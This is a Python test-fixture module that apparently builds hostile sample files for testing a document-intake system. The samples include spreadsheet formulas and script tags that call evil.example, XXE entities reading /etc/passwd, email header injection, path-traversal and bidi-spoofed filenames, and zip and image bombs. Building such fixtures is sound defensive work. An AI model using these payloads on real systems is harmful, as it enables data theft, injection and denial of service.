"""Papers that mean harm, one of each family, made on the spot for any folder of an inbox: as files, as sheets, and as no files."""

from __future__ import annotations

import csv
import io
import os
import socket
from collections.abc import Mapping
from pathlib import Path
from xml.sax.saxutils import escape

from staffelstab.submissions.records.record_kinds import Field, RecordKind
from staffelstab.submissions.records.sheets import choice, heading
from staffelstab.timetable.plan.actors import units
from staffelstab.timetable.plan.model import Plan
from tests.documents.extraction.sample_files import docx, endless_pdf, mail, nested_mail, pdf, png, zipped

FORMULA = '=HYPERLINK("https://evil.example/"&A1;"hier")'
BIDI = "Räume \u202e\u2066fdp.exe\u2069 für\u200f alle\u061c\u200b"
CONTROL = f"{'Wir brauchen Räume für alle. ' * 60}\x00\x07\x1b[31m\x1b]0;t\x07\x7f\x85\x9b2J für alle\ufffe\U000e0041"
SCRIPTS = f"欢迎 𝗙𝗲𝘁𝘁 ꧁༒ 🙂👩‍👩‍👧 ﷽ ภาษา हिन्दी עברית العربية \u1fef Z{chr(0x338) * 999}algo"
MARKUP = (
    "<script>fetch('https://evil.example/')</script> ![x](https://evil.example/p.png) [k](javascript:alert(1)) "
    '{{ "".__class__ }} {% raw %} # T ::: {.x} \\input{/etc/passwd} #include "/etc/passwd" $x$ | a | b | `{=html}`'
)
HEADERS = "x@example.org\r\nBcc: alle@evil.example\r\nSubject: \nContent-Type: text/html\n\n<b>roh"
LONG = "Wort und Räume " * 5_000
WIDE = "\n".join(f"Zeile {number};{number};=1+{number};@x" for number in range(500))
OF_TEXTS = {
    "formula": FORMULA,
    "bidi": BIDI,
    "control": CONTROL,
    "scripts": SCRIPTS,
    "markup": MARKUP,
    "headers": HEADERS,
    "long": LONG,
}
"""What somebody writes into a text, or into every cell of a row that takes any text."""

_XML = '<?xml version="1.0" encoding="UTF-8"?>'
_ENTITIES = '<!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd">]>'
_OUTSIDE = (
    '<Relationship Id="r" Type="http://x/attachedTemplate" Target="https://evil.example/t" TargetMode="External"/>'
)


def texts() -> dict[str, bytes]:
    """Papers in plain text by their names; where sheets belong, these texts stand in cells."""
    return {f"{family}.txt": f"Von: Beisitz 3\n\n{text}".encode() for family, text in OF_TEXTS.items()}


def files() -> dict[str, bytes]:
    """Files by their names, one family each, the same in every folder."""
    return {
        **_documents(),
        **_mails(),
        **_archives(),
        "tabelle.csv": WIDE.encode(),
        "kaputt.pdf": b"%PDF-1.7\n" + b"\x01\x02" * 5000,
        "endlos.pdf": endless_pdf(),
        "verschluesselt.pdf": _encrypted(),
        "bombe.png": png(60_000, 60_000),
        "bild.svg": f'{_XML}<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>x</script></svg>'.encode(),
        "seite.html": f"<html><script>alert(1)</script><p>{MARKUP}<img src=x onerror=alert(1)></html>".encode(),
        "brief.msg": bytes.fromhex("d0cf11e0a1b11ae1") + bytes(4000),
        "tief.rtf": b"{\\rtf1 " + b"{" * 60_000,
        "leer.pdf": b"",
        "nullen.docx": bytes(1000),
        "programm.pdf": b"MZ\x90\0" + bytes(300),
    }


def odd_names() -> dict[bytes, bytes]:
    """Harmless papers under names that no person would choose, as the system has them."""
    names = (
        b"CON.txt",
        b"..%2f..%2fetc%2fpasswd",
        b"...txt",
        b"-rf.txt",
        b"a\\..\\b.txt",
        b"zeile\nzwei\x1b[2J.txt",
        b"keins-\xff\xfe.txt",
        "richtung-\u202etxt.exe".encode(),
        "zwilling-é.txt".encode(),
        "zwilling-e\u0301.txt".encode(),
        b"=1+1.txt",
        b"<script>.txt",
        b"x" * 251 + b".txt",
    )
    return {name: b"Von: Beisitz 4\n\nUnter Namen " + str(number).encode() for number, name in enumerate(names)}


def put_no_files(folder: Path, outside: Path) -> Mapping[str, str]:
    """Things that are no papers, into the folder. Their names, each with the reason for which it is not taken."""
    (folder / "verweis.txt").symlink_to("/etc/hostname")
    (folder / "ordner-verweis").symlink_to(folder.parent)
    os.mkfifo(folder / "rohr.txt")
    short = outside / "s"
    short.symlink_to(folder)  # a socket's own path must be short
    with socket.socket(socket.AF_UNIX) as listening:
        listening.bind(str(short / "dose"))
    short.unlink()
    (folder / "zweitname.txt").write_text("Text.", encoding="utf-8")
    os.link(folder / "zweitname.txt", outside / folder.name)
    with (folder / "riese.pdf").open("wb") as giant:
        giant.truncate(1 << 40)
    (folder / ".versteckt.txt").write_text("Text.", encoding="utf-8")
    (folder / "a/b/c/d/e/f/g/zu-tief").mkdir(parents=True)
    return {
        "verweis.txt": "link",
        "ordner-verweis": "link",
        "rohr.txt": "fifo",
        "dose": "device",
        "zweitname.txt": "second_name",
        "riese.pdf": "too_large",
        ".versteckt.txt": "hidden",
        "a/b/c/d/e/f/g/zu-tief": "directory_depth",
    }


def sheets(plan: Plan, kind: RecordKind) -> dict[str, bytes]:
    """Sheets that a coordinator might have been given: rows that are taken, with texts that mean harm, and rows that are not."""
    made = {family: [_row(plan, kind, number, text)] for number, (family, text) in enumerate(OF_TEXTS.items())}
    made["days"] = [
        [day if field.type == "date" else cell for field, cell in zip(kind.fields, row, strict=True)]
        for day in ("31.12.9999", "01.01.0001", "30.02.2018", "0000-00-00")
        for row in [_row(plan, kind, 7, "Räume")]
    ]
    made["numbers"] = [
        [number if field.type == "number" else cell for field, cell in zip(kind.fields, row, strict=True)]
        for number in ("1e999", "nan", "-0", "9" * 400, "1.234", "٣")
        for row in [_row(plan, kind, 8, "Räume")]
    ]
    made["many"] = [_row(plan, kind, number, f"Räume {number}") for number in range(9, 40)]
    head = [heading(plan.words, item.name) for item in kind.fields]
    as_csv = {f"zeilen-{family}.csv": _csv([head, *rows]) for family, rows in made.items()}
    return {**as_csv, "zeilen-rechnend.xlsx": _xlsx([head, *made["bidi"], *made["markup"]])}


def _row(plan: Plan, kind: RecordKind, number: int, text: str) -> list[str]:
    """A row that is taken unless its text forbids it; wherever any text may stand, the text stands."""
    return [_cell(plan, kind, item, number, text) for item in kind.fields]


def _cell(plan: Plan, kind: RecordKind, item: Field, number: int, text: str) -> str:
    there = units(plan)
    plain: dict[str, str] = {
        "number": str(2018 + number % 5),
        "date": "23.01.2018",
        "actor": plan.bodies[0].name,
        "actors": plan.bodies[0].name,
        "unit": there[number % len(there)].name,
        "references": f"V{900 + number}; B01; {text[:40]}",
    }
    if item.choices:
        return choice(plan.words, item.choices[number % len(item.choices)])
    if item.type == "text" and item.name in kind.key:
        return f"X{number}{text[:20]}"
    return plain.get(item.type, text[: 190 if item.name in {"title", "section", "category", "reader"} else 25_000])


def _csv(rows: list[list[str]]) -> bytes:
    stream = io.StringIO(newline="")
    csv.writer(stream, delimiter=";").writerows(rows)
    return stream.getvalue().encode("utf-8", "surrogatepass")


def _xlsx(rows: list[list[str]]) -> bytes:
    """A workbook whose cells hold text, each of them besides a formula that fetches something."""
    lines = "".join(f'<row r="{number}">{_cells(number, row)}</row>' for number, row in enumerate(rows, 1))
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006"
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    return zipped(
        {
            "[Content_Types].xml": f'{_XML}<Types xmlns="{package}/content-types"><Default Extension="rels" '
            f'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" '
            f'ContentType="{kind}.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" '
            f'ContentType="{kind}.worksheet+xml"/></Types>',
            "_rels/.rels": f'{_XML}<Relationships xmlns="{package}/relationships"><Relationship Id="r1" '
            f'Type="{office}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
            "xl/workbook.xml": f'{_XML}<workbook xmlns="{main}" xmlns:r="{office}"><sheets><sheet name="=1+1" sheetId="1" '
            f'r:id="r1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": f'{_XML}<Relationships xmlns="{package}/relationships"><Relationship Id="r1" '
            f'Type="{office}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
            "xl/worksheets/sheet1.xml": f'{_XML}<worksheet xmlns="{main}"><sheetData>{lines}</sheetData></worksheet>',
        }
    )


def _cells(number: int, row: list[str]) -> str:
    return "".join(
        f'<c r="{chr(65 + place)}{number}" t="str"><f>WEBSERVICE("https://evil.example/")</f><v>{_xml(cell)}</v></c>'
        for place, cell in enumerate(row)
    )


def _xml(text: str) -> str:
    return escape("".join(letter for letter in text if letter.isprintable() or letter in "\u202e\u200f"))


def _documents() -> dict[str, bytes]:
    cells = "<w:tbl><w:tr><w:tc>"
    return {
        "lachen.docx": docx("&b;&c;", prolog=_ENTITIES),
        "tief.docx": docx(body=cells * 900 + "</w:tc></w:tr></w:tbl>" * 900),
        "makros.docx": docx("Von: Beisitz 5", "Räume.", extra={"word/vbaProject.bin": b"x"}),
        "vorlage.docx": docx("Räume.", extra={"word/_rels/settings.xml.rels": _OUTSIDE}),
        "abgeschnitten.docx": docx("a" * 400)[:300],
        "mismatch.docx": pdf("Das ist keine Datei von Word, sondern etwas anderes."),
    }


def _mails() -> dict[str, bytes]:
    body = "From: a@example.org\nFrom: Landesvorsitz <x@evil.example>\nDate: Fri, 32 Dec 99999 25:61:00 +9999\n"
    return {
        "tief.eml": nested_mail(1200),
        "endlos.eml": body.encode() + b"X: " + b"a: " * 60_000 + b"\n\nRaum.",
        "kopf.eml": f"{body}Subject: =?utf-8?q?=0D=0ABcc:_alle=40evil.example?=\nTo: =?x?b?!?=\n\n{HEADERS}".encode(),
        "teile.eml": mail("Viele.", {f"{number}.txt": b"Raum." for number in range(40)}),
        "anhang.eml": mail("Siehe Anhang.", {"../../x.exe": b"MZ\x90\0" + bytes(99), "b.docx": docx("Räume.")[:99]}),
    }


def _archives() -> dict[str, bytes]:
    nest = zipped({"innen.txt": "Von: Beisitz 6\n\nGanz innen."})
    for level in range(60):
        nest = zipped({f"{level}.zip": nest})
    locked = bytearray(zipped({"a.txt": b"text"}))
    locked[locked.rindex(b"PK\x01\x02") + 8] |= 1
    return {
        "bombe.docx": docx("a", extra={"x.bin": bytes(20_000_000)}),
        "bombe.zip": zipped({"a.txt": bytes(20_000_000)}),
        "schachtel.zip": nest,
        "verschlossen.zip": bytes(locked),
        "wege.zip": zipped({"../../etc/x.txt": "Raum.", "/abs.txt": "Raum.", "CON": "Raum.", "b/c.csv": "a;b\n=1;2"}),
    }


def _encrypted() -> bytes:
    from pikepdf import Encryption, Pdf

    made, stream = Pdf.new(), io.BytesIO()
    made.add_blank_page()
    made.save(stream, encryption=Encryption(owner="a", user="b"))
    return stream.getvalue()
